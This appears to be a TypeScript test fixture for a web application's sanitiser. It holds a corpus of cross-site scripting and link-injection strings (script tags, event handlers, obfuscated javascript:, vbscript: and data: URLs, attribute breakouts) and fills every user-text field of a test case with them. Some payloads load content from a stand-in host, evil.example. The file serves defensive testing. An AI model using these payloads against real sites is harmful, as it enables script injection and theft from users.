/** A corpus of script and link injections, and a case that carries it everywhere user text goes. */
import type { CaseSnapshot, Decision, Evidence, Place, Sprint } from '../../src/core/model';
import { newCase } from '../../src/core/cases';

export const INJECTIONS: string[] = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=https://evil.example/x.js></SCRIPT>',
  '<img src=x onerror=alert(1)>',
  'text <img src="x" onerror="alert(1)"/> text',
  '[x](javascript:alert(1))',
  '[x](JaVaScRiPt:alert(1))',
  '[x](&#106;avascript:alert(1))',
  '[x](&#x6A;avascript&#x3A;alert(1))',
  '[x](javascript&colon;alert(1))',
  '[x](<javascript:alert(1)>)',
  '[x](  javascript:alert(1)  )',
  '[x](java\tscript:alert(1))',
  '[x][ref]\n\n[ref]: javascript:alert(1)',
  '[x](vbscript:msgbox(1))',
  '[x](file:///etc/passwd)',
  '[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  '[x](data:image/png;base64,iVBORw0KGgo=)',
  '[x](data:text/html,<script>alert(1)</script>)',
  '![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)',
  '![x](javascript:alert(1))',
  '![tracking pixel](https://evil.example/pixel.gif)',
  '<iframe src="https://evil.example"></iframe>',
  '<style>body { display: none }</style>',
  '<svg onload=alert(1)><circle r="1"/></svg>',
  '<svg><script>alert(1)</script></svg>',
  '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
  '<a href="javascript:alert(1)">click</a>',
  '<a href="&#1;javascript:alert(1)">click</a>',
  '<javascript:alert(1)>',
  '<vbscript:msgbox(1)>',
  '<data:text/html,alert(1)>',
  '<https://example.org/fine>',
  '<div onclick="alert(1)">a raw HTML block</div>',
  '<details open ontoggle=alert(1)><summary>x</summary></details>',
  '<object data="https://evil.example/x.swf"></object><embed src="https://evil.example/x">',
  '<form action="https://evil.example"><input name="x"><button formaction="javascript:alert(1)">go</button></form>',
  '<base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<link rel="stylesheet" href="https://evil.example/x.css">',
  '"><script>alert(1)</script>',
  "'><img src=x onerror=alert(1)>",
  '[x](https://example.org"onmouseover="alert(1))',
  '[click](#"onclick="alert(1))',
  '[x](//evil.example/path)',
  '<!-- a comment --><script>alert(1)</script>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '`<script>alert(1)</script>` in code',
  '```html\n<script>alert(1)</script>\n```',
  'javascript:alert(1) as plain text',
  '[x](https://example.org/?q=<script>alert(1)</script>)',
  '<p style="background:url(javascript:alert(1))">styled</p>',
  '| a | b |\n| --- | :-: |\n| <script>alert(1)</script> | [x](javascript:alert(1)) |',
];

/** Source links that must never become links. */
export const BAD_SOURCE_URLS = ['javascript:alert(1)', 'data:text/html,<script>alert(1)</script>', 'vbscript:msgbox(1)', ' javascript:alert(1)'];

const AUTHOR = { id: 'U9', name: '<img src=x onerror=alert(1)>' };

/** One case with the corpus in its title, preamble, sections, sprint intros, decisions, revisions, evidence and sources. */
export function injectionCase(id: string, place: Place, now: string): CaseSnapshot {
  const base = newCase({ id, place, now, title: '<script>alert("title")</script> Injections' });
  const n = INJECTIONS.length;
  const sections = INJECTIONS.map((body, i) => ({ level: i % 2 === 0 ? 2 : 3, heading: i === 0 ? '<b onmouseover=alert(1)>Heading</b>' : `Section ${i}`, body }));
  const c = {
    ...base,
    layout: {
      ...base.layout,
      preamble: INJECTIONS.join('\n\n'),
      sections,
      decisionsAt: sections.length,
      decisionsHeading: { level: 2, text: 'Key decisions <script>alert(1)</script>', intro: '<iframe src="javascript:alert(1)"></iframe>' },
    },
  };
  const decisions: Decision[] = INJECTIONS.map((text, i) => ({
    number: i, sprint: i % 3, text, author: AUTHOR, createdAt: now, updatedAt: now,
    status: i % 5 === 1 ? 'withdrawn' : i % 5 === 2 ? 'superseded' : i % 5 === 3 ? 'proposed' : i % 10 === 4 ? 'rejected' : 'active',
    statusReason: i % 5 === 1 || i % 10 === 4 ? INJECTIONS[(i + 1) % n] ?? null : null,
    supersededBy: i % 5 === 2 ? (i + 100) : null,
    sourceUrl: BAD_SOURCE_URLS[i % BAD_SOURCE_URLS.length] ?? null,
    revisions: [{ text: INJECTIONS[(i + 7) % n] ?? '', editedBy: AUTHOR, editedAt: now }],
    deciders: [INJECTIONS[(i + 5) % n] ?? 'x'],
    points: i % 4 === 0 ? [1 + (i % 14)] : [],
  }));
  const evidence: Evidence[] = INJECTIONS.flatMap((text, i) => [
    { id: `${id}-e${i}a`, decision: i, letter: 'a', refersTo: null, position: 0, text, author: AUTHOR, createdAt: now, sourceUrl: BAD_SOURCE_URLS[(i + 1) % BAD_SOURCE_URLS.length] ?? null, points: [5] },
    { id: `${id}-e${i}b`, decision: i, letter: null, refersTo: `${Math.max(0, i - 1)}a`, position: 1, text: INJECTIONS[(i + 3) % n] ?? '', author: AUTHOR, createdAt: now, sourceUrl: 'https://example.org/x" onmouseover="alert(1)', points: [] },
  ]);
  // Sprint 1 starts a phase whose name is hostile (an imported document can name it anything on one line).
  const sprints: Sprint[] = [0, 1, 2].map((number) => ({
    number, suffix: number === 1 ? ': <script>alert(1)</script>' : '', intro: INJECTIONS[number * 5] ?? '', startsOn: null,
    ...(number === 1 ? { phase: { kind: 'alpha' as const, name: '<img src=x onerror=alert(1)> @channel <!here> **bold** ](x)' } } : {}),
  }));
  return { case: c, sprints, decisions, evidence };
}
